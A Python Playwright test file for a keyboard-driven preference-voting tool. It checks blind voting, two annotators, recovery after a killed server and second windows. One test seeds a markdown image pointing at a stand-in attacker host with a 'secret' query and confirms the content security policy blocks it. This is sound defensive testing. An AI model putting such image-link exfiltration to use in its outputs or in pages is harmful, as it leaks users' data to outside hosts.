"""Voting in a real browser with the keyboard alone: blind, fast, by two people, and across a killed server."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, WebSocket, expect

from tests.browser.conftest import Server, Watched
from tests.pages import seeding
from workbench.workspace import Workspace

MODELS = ("secret-model-a", "secret-model-b")
READING_MS = 420
"""Longer than the time in which a second press of the same key means "much better"."""


def sit_down(page: Page, name: str) -> None:
    """Give a name, and wait for the first pair."""
    page.get_by_placeholder("First name and surname").fill(name)
    page.keyboard.press("Enter")
    expect(page.locator(".desk .pair")).to_be_visible()


def press(page: Page, *keys: str) -> None:
    """One key after the other; what is about a pair waits until one is there, as a person would on a slow server."""
    for key in keys:
        page.wait_for_timeout(READING_MS)
        if key not in ("u", "r"):
            expect(page.locator(".desk .pair")).to_be_visible()
        page.keyboard.press(key)


def all_saved(page: Page) -> None:
    expect(page.locator(".state")).to_have_attribute("data-unsaved", "0")


def counter(page: Page, text: str) -> None:
    expect(page.locator(".counter")).to_contain_text(text)


@pytest.fixture
def second(chromium: Browser) -> Iterator[Page]:
    """Somebody else's browser."""
    context = chromium.new_context(viewport={"width": 1024, "height": 800})
    yield context.new_page()
    context.close()


def seeded(server: Server, number: int, evil: bool = False) -> None:
    with Workspace.open(server.workspace) as ws:
        seeding.demonstrations(ws)
        seeding.pairs(ws, *MODELS, number=number, evil=evil)
    server.start()


def press_every_key(page: Page) -> None:
    """Votes of every kind, a skip, an undo, a note and a better answer."""
    counter(page, "0 by you, 0 today · 12 ahead of you")
    press(page, "1", "ArrowRight", "ArrowDown", "0", "Shift+ArrowLeft", "s", "2")
    page.keyboard.press("2")  # the same key at once: much better, not a vote on the next pair
    all_saved(page)
    counter(page, "6 by you, 6 today")
    press(page, "u")
    all_saved(page)
    counter(page, "5 by you")
    press(page, "3", "n")
    page.keyboard.type("2 and 1 are typed, not voted")
    page.keyboard.press("Escape")
    press(page, "e")
    page.keyboard.type("On the third floor.")
    page.keyboard.press("Escape")
    press(page, "1")
    all_saved(page)
    expect(page.locator(".state")).to_contain_text("draft in step 1")


def blocked_by(page: Page) -> str:
    """The rule that forbids a picture from elsewhere."""
    directive: str = page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
            new Image().src = "https://evil.example/leak.png";
            setTimeout(() => resolve("nothing was blocked"), 5000);
        })"""
    )
    return directive


def check_what_was_stored(server: Server) -> None:
    with Workspace.open(server.workspace) as ws:
        votes = ws.votes.live()
        assert Counter(vote.strength for vote in votes) == {None: 5, "much": 1}
        assert Counter(vote.both_bad for vote in votes) == {False: 5, True: 1}
        said = votes[-1]
        assert (said.reasons, said.comment) == (("right facts",), "2 and 1 are typed, not voted")
        (draft,) = ws.demonstrations.list(status="draft")
        assert (draft.response, draft.author) == ("On the third floor.", "Ada")


def test_every_key_on_hostile_text_and_nothing_that_names_a_model(server: Server, tab: Watched) -> None:
    received: list[str | bytes] = []

    def listen(socket: WebSocket) -> None:
        socket.on("framereceived", lambda frame: received.append(frame))

    tab.page.on("websocket", listen)
    seeded(server, 12, evil=True)
    page = tab.page
    tab.open(server, "preferences")
    sit_down(page, "Ada")
    expect(page.get_by_text("![x](https://evil.example/leak.png?secret=1)")).to_be_visible()
    assert page.locator("img[src*='evil']").count() == 0
    press_every_key(page)
    assert received
    for model in MODELS:
        assert not any(model.encode() in (f if isinstance(f, bytes) else f.encode()) for f in received), model
    press(page, "r")
    expect(page.locator(".state")).to_contain_text(re.compile(rf"That was {MODELS[0]}|That was {MODELS[1]}"))
    waits = page.evaluate("performance.getEntriesByName('vote:next').map((entry) => entry.duration)")
    assert len(waits) == 7
    assert sorted(waits)[3] <= 200  # milliseconds from key to next pair; some may have met a busy machine
    assert tab.outside == []
    assert tab.complaints == []
    assert blocked_by(page) == "img-src"
    server.stop()
    check_what_was_stored(server)


def test_two_people_a_killed_server_and_votes_it_never_answered(server: Server, tab: Watched, second: Page) -> None:
    seeded(server, 8)
    ada = tab.page
    tab.open(server, "preferences")
    second.goto(f"{server.url}/preferences")
    sit_down(ada, "Ada")
    sit_down(second, "Ben")
    press(ada, "1", "2")
    press(second, "1", "1", "ArrowDown")
    all_saved(ada)
    all_saved(second)
    counter(second, "3 by you")

    server.kill()
    press(ada, "2")  # into the void: kept in the browser
    counter(ada, "3 by you")
    expect(ada.locator(".state")).not_to_have_attribute("data-unsaved", "0")
    server.start()
    ada.reload()
    asked = ada.get_by_placeholder("First name and surname")
    asked.or_(ada.locator(".state")).first.wait_for(timeout=30_000)
    if asked.count():
        sit_down(ada, "Ada")
    all_saved(ada)
    counter(ada, "3 by you, 3 today · 5 ahead of you")
    press(ada, "u")
    all_saved(ada)
    counter(ada, "2 by you, 2 today · 6 ahead of you")
    server.stop()
    with Workspace.open(server.workspace) as ws:
        names = {row.id: row.name for row in ws.annotators.list()}
        assert Counter(names[vote.annotator_id] for vote in ws.votes.live()) == {"Ada": 2, "Ben": 3}
        assert len(ws.votes.list()) == 6


def test_a_second_window_of_the_same_person_loses_nothing(server: Server, tab: Watched, second: Page) -> None:
    seeded(server, 4)
    here = tab.page
    tab.open(server, "preferences")
    second.goto(f"{server.url}/preferences")
    sit_down(here, "Ada")
    sit_down(second, "Ada")
    press(here, "1")
    all_saved(here)
    press(second, "e")
    second.keyboard.type("On the third floor.")
    second.keyboard.press("Escape")
    press(second, "2")
    said = second.locator(".state")
    expect(said).to_contain_text("voted on this pair already, perhaps in another window")
    expect(said).to_contain_text("Your ideal answer waits as a draft in step 1.")
    counter(second, "1 by you, 1 today · 3 ahead of you")
    press(second, "2")  # the second pair, which the first window still shows
    all_saved(second)
    press(here, "r")
    expect(here.locator(".state")).to_contain_text("has its votes by now, or is with somebody else")
    counter(here, "2 by you")
    server.stop()
    with Workspace.open(server.workspace) as ws:
        assert len(ws.votes.list()) == 2
        assert [row.response for row in ws.demonstrations.list(status="draft")] == ["On the third floor."]


def test_what_is_typed_beside_a_pair_stands_there_again(server: Server, tab: Watched) -> None:
    seeded(server, 4)
    page = tab.page
    tab.open(server, "preferences")
    sit_down(page, "Ada")
    press(page, "3", "n")
    page.keyboard.type("Cut off")
    page.keyboard.press("Escape")
    note, reason = page.locator(".note"), page.locator(".reason").first
    press(page, "1")
    all_saved(page)
    expect(note).to_be_hidden()
    press(page, "u")
    expect(note).to_have_value("Cut off")
    expect(reason).to_have_attribute("aria-pressed", "true")
    all_saved(page)
    page.reload()
    asked = page.get_by_placeholder("First name and surname")
    asked.or_(page.locator(".state")).first.wait_for()
    if asked.count():
        sit_down(page, "Ada")
    expect(note).to_have_value("Cut off")


MOVE = """async () => {
    const loaded = performance.getEntriesByType("resource").map((entry) => entry.name);
    const source = loaded.find((name) => /voting[^/]*\\.js/.test(name));
    const { default: mount } = await import(source + (source.includes("?") ? "&" : "?") + "copy");
    const place = () => document.body.appendChild(document.createElement("div"));
    const pair = (key) => ({ key, pair: key.slice(0, 1), occasion: 0, prompt: "?", left: "a", right: "b" });
    const data = {
        person: "Eve", pairs: ["1:0", "2:0", "3:0"].map(pair), results: {}, done: 0, ahead: 3, today: 0,
        settings: { reveal: "never", ask_reasons: false, reasons: [], guidelines: "" },
    };
    const sent = [];
    const setStateValue = (name, actions) => sent.push(actions);
    const show = (parentElement) => mount({ data, parentElement, setStateValue });
    const desks = () => [...document.querySelectorAll(".desk")];
    const [here, there] = [place(), place()];
    const leave = show(here);
    const desk = desks()[0];
    await new Promise((resolve) => setTimeout(resolve, 400));
    document.dispatchEvent(new KeyboardEvent("keydown", { code: "Digit1", key: "1" }));
    show(there);   // the new place is there before the old one is left
    const unsaved = (one) => one.querySelector(".state").dataset.unsaved;
    const during = desks().map((one) => [one === desk, one.parentElement === there, unsaved(one)]);
    leave();
    const after = desks().length;
    return { during, after, kept: sent.map((actions) => actions.map((action) => action.choice)) };
}"""


def test_a_desk_that_is_mounted_anew_is_the_same_desk_with_what_it_has_not_saved(server: Server, tab: Watched) -> None:
    seeded(server, 4)
    tab.open(server, "preferences")
    sit_down(tab.page, "Ada")
    seen = tab.page.evaluate(MOVE)
    assert seen == {"during": [[True, True, "1"]], "after": 1, "kept": [["left"], ["left"]]}
